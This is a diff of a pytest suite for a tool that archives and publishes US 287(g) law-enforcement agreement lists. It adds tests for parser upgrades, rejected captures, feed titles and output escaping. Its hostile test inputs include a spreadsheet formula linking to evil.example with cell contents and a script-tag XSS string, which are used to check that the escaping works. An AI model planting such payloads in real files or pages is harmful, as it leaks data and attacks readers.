@@ -17,7 +17,15 @@ import pytest
 
 from tests.conftest import ROOT, Cli
 
-HEADER = ["STATE", "LAW ENFORCEMENT AGENCY", "TYPE", "COUNTY", "SUPPORT TYPE", "SIGNED", "MOA"]
+HEADER: list[object] = [
+    "STATE",
+    "LAW ENFORCEMENT AGENCY",
+    "TYPE",
+    "COUNTY",
+    "SUPPORT TYPE",
+    "SIGNED",
+    "MOA",
+]
 HOSTILE = (
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "<script>alert(1)</script> Police Department",
@@ -112,7 +120,7 @@ def test_every_capture_of_a_list_is_a_row_with_its_verdict_and_what_the_parser_n
     seed = _csv(seed_site / "data" / "snapshots.csv")
     assert len(seed) == 30 and {r["verdict"] for r in seed} == {"accepted"}
     assert all(len(r["sha256"]) == 64 and r["list"] in ("participating", "pending") for r in seed)
-    rows = [
+    rows: list[list[object]] = [
         HEADER,
         _row("TX", "Alpha County Sheriff's Office", "JEM", "2025-01-02"),
         ["Terminated Agreements"],
@@ -173,7 +181,7 @@ def test_escaping_helpers_neutralise_each_output() -> None:
     assert for_csv_cell("\tx") == "'\tx" and for_csv_cell("@SUM(A1)") == "'@SUM(A1)"
     assert for_markdown("[x](javascript:alert(1))") == r"\[x\]\(javascript\:alert\(1\)\)"
     assert for_markdown("<b>a_b</b>") == r"\<b\>a\_b\</b\>"
-    assert for_markdown("# Title\nnext") == r"\# Title next"
+    assert for_markdown("# Title\nnext") == r"\# Title\nnext"  # a break shown, not lost
     assert for_markdown("1. St. Lucie") == r"1\. St. Lucie"
     assert "\x1b" not in for_terminal("\x1b[31mred") and for_terminal("a\nb") == "a\\nb"
     assert for_xml("a\x00b\x1bc\x9b\ufffe") == r"a\x00b\x1bc\x9b"
@@ -304,7 +312,7 @@ def test_the_feed_of_all_events_holds_each_event_once_dated_by_its_capture(
     events = json.loads((seed_site / "data" / "events.json").read_text())
     root = ET.parse(seed_site / "feeds" / "all.xml").getroot()
     entries = root.findall(f"{ATOM}entry")
-    ids = [e.findtext(f"{ATOM}id") for e in entries]
+    ids = [e.findtext(f"{ATOM}id") or "" for e in entries]
     assert sorted(ids) == sorted(f"urn:ice287g:event:{e['id']}" for e in events)
     assert root.findtext(f"{ATOM}updated") == max(e["recorded_at"] for e in events)
     by_id = {f"urn:ice287g:event:{e['id']}": e for e in events}
@@ -318,7 +326,7 @@ def test_the_feed_of_all_events_holds_each_event_once_dated_by_its_capture(
     ]
     assert all((e["recorded_at"], e["window_end"]) == (up, pub) for e, up, pub in dated)
     assert any(e["recorded_at"] > e["window_end"] for e, _, _ in dated)
-    updated = [up for _, up, _ in dated]
+    updated = [up or "" for _, up, _ in dated]
     assert updated == sorted(updated, reverse=True)
 
 
@@ -575,3 +583,136 @@ def test_an_archived_file_altered_or_lost_is_not_published_as_evidence(tmp_path:
     result = cli("publish", str(tmp_path / "site"))
     assert f"archive object {sha} is missing or no longer has that hash" in result.stderr
     assert not list((tmp_path / "site" / "files").glob(f"{sha}*"))
+
+
+UNKNOWN_COLUMN = "WHATEVER"  # a column no parser knows: a parser note on the capture
+
+
+@pytest.fixture(scope="module")
+def upgraded_site(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Cli]:
+    """A list with a parser note, then a file no parser can read (its list unknown:
+    rejected), published after a parser upgrade (the parse cache of another version,
+    the history not yet derived again)."""
+    import sqlite3
+
+    tmp = tmp_path_factory.mktemp("upgraded")
+    header = [*HEADER, UNKNOWN_COLUMN]
+    rows = [
+        [*_row("TX", f"Plain {n} County Sheriff's Office", "JEM", "2025-01-02"), "x"] for n in "ab"
+    ]
+    (tmp / "a.xlsx").write_bytes(_xlsx([header, *rows]))
+    (tmp / "broken.xlsx").write_bytes(b"PK\x03\x04 no workbook")
+    cli = Cli(f"sqlite:///{tmp / 'u.db'}", tmp / "archive")
+    cli("import", str(tmp / "a.xlsx"), "--observed-at", "2025-03-01T10:00:00Z")
+    cli("import", str(tmp / "broken.xlsx"), "--observed-at", "2025-03-06T10:00:00Z")
+    with sqlite3.connect(tmp / "u.db") as db:  # what a bump of parsers/versions.py LISTS does
+        db.execute("UPDATE parsed_listings SET parser_version = 'older'")
+    out = tmp / "site"
+    cli("publish", str(out))
+    return out, cli
+
+
+def test_after_a_parser_upgrade_the_notes_the_history_was_derived_with_are_published(
+    upgraded_site: tuple[Path, Cli],
+) -> None:
+    """The notes were read from the parse cache of the installed parsers' version only:
+    after every upgrade ``publish`` emptied every capture's parser notes (45 of 314 in
+    the corpus), though it publishes the history as it stands."""
+    site, _ = upgraded_site
+    [listed] = [r for r in _csv(site / "data" / "snapshots.csv") if r["name"] == "a.xlsx"]
+    assert f"unknown column '{UNKNOWN_COLUMN}'" in listed["parser_notes"]
+
+
+def test_a_capture_whose_list_is_unknown_has_its_row_in_the_published_snapshots(
+    upgraded_site: tuple[Path, Cli],
+) -> None:
+    """One row per capture: a file no parser could read (its list unknown) was left out,
+    though its ``snapshot.rejected`` event cites it."""
+    site, _ = upgraded_site
+    rows = {r["name"]: r for r in _csv(site / "data" / "snapshots.csv")}
+    assert set(rows) == {"a.xlsx", "broken.xlsx"}
+    assert rows["broken.xlsx"]["list"] == "" and rows["broken.xlsx"]["verdict"] == "rejected"
+    events = json.loads((site / "data" / "events.json").read_text())
+    [rejected] = [e for e in events if e["kind"] == "snapshot.rejected"]
+    assert rejected["evidence_sha256"] == rows["broken.xlsx"]["sha256"]
+
+
+def test_a_rejected_capture_is_dated_as_captured_not_as_listed_when_records_begin(
+    upgraded_site: tuple[Path, Cli],
+) -> None:
+    """A rejection has no window: it was written 'on the list when records begin (T)'
+    in the change log, the month pages and the feeds."""
+    from ice287g.render import window_text
+
+    site, _ = upgraded_site
+    md = (site / "changes" / "2025-03.md").read_text()
+    [line] = [line for line in md.splitlines() if "broken.xlsx:" in line]
+    assert "captured 2025-03-06T10:00:00Z" in line and "records begin" not in line
+    feed = (site / "feeds" / "all.xml").read_text()
+    assert "captured 2025-03-06T10:00:00Z" in feed
+    assert "records begin (2025-03-06" not in feed
+    listed = {"kind": "agreement.added", "window_start": None, "window_end": "T"}
+    assert window_text(listed) == "on the list when records begin (T)"
+    assert window_text({**listed, "kind": "snapshot.rejected"}) == "captured T"
+
+
+_ITEM = re.compile(r'<li id="event-([0-9a-f]{16})">(.*?)</li>', re.DOTALL)
+
+
+def test_every_event_s_anchor_on_its_month_page_links_the_files_that_prove_it(
+    upgraded_site: tuple[Path, Cli],
+) -> None:
+    """An event of no agency (a rejected capture) is anchored on its month page alone,
+    which showed no proof: its evidence file was published and linked from nowhere."""
+    site, _ = upgraded_site
+    events = json.loads((site / "data" / "events.json").read_text())
+    items = {}
+    for page in (site / "changes").glob("*.html"):
+        items.update(dict(_ITEM.findall(page.read_text())))
+    assert {e["id"] for e in events} <= set(items)
+    for event in events:
+        for sha in event["evidence_sha256"].split():
+            assert f'href="../files/{sha}' in items[event["id"]], event["kind"]
+    [rejected] = [e for e in events if e["kind"] == "snapshot.rejected"]
+    assert ">broken.xlsx</a>" in items[rejected["id"]]
+
+
+def test_one_event_is_named_in_the_singular_in_feeds_and_timelines(
+    upgraded_site: tuple[Path, Cli],
+) -> None:
+    """A feed entry and a timeline item are one event each: they were titled
+    'agencies joined: ...', 'snapshots rejected: ...'."""
+    site, _ = upgraded_site
+    feed = (site / "feeds" / "all.xml").read_text()
+    titles = re.findall(r"<title>(.*?)</title>", feed)[1:]
+    assert titles and all(
+        t.startswith(("agency joined:", "agreement added:", "snapshot rejected:")) for t in titles
+    )
+    page = (site / "agencies" / "tx-plain-a-county-sheriff-office.html").read_text()
+    kinds = set(re.findall(r'<span class="kind">(.*?)</span>', page))
+    assert kinds == {"agency joined", "agreement added"}
+    from ice287g.render import counted, kind_label
+
+    assert kind_label("agreement.withdrawn") == "agreement withdrawn"
+    assert kind_label("agreement.withdrawn", 2) == "agreements withdrawn"
+    assert counted(2, "snapshot.rejected") == "2 snapshots rejected"
+
+
+def test_markdown_and_terminal_cells_show_what_they_cannot_carry_as_its_code() -> None:
+    """Markdown deleted control characters (``c\\rd0.pdf`` printed ``cd0.pdf``, a
+    line break a space): two different values printed the same; a tab in a table cell
+    moved the rest of its row out of its columns."""
+    from ice287g.escape import for_markdown, for_terminal
+    from ice287g.render import to_table
+
+    assert for_markdown("c\rd0.pdf") == r"c\rd0.pdf" != for_markdown("cd0.pdf")
+    assert for_markdown("a\nb") == r"a\nb" != for_markdown("a b")
+    assert for_markdown("a\tb\x1bc_d") == r"a\tb\x1bc\_d"
+    assert for_markdown("a\u2028b") == r"a\u2028b"
+    assert for_markdown("x@y.org\n") == r"`x@y.org\n`"
+    assert for_markdown("  two   spaces  ") == "two spaces"  # spaces are spaces
+    assert for_terminal("a\tb\rc") == r"a\tb\rc"
+    table = to_table([{"name": "a\tb", "n": 1}, {"name": "abcd", "n": 2}], ("name", "n"))
+    assert "\t" not in table and r"a\tb" in table
+    lines = table.splitlines()
+    assert lines[2].index("1") == lines[3].index("2")
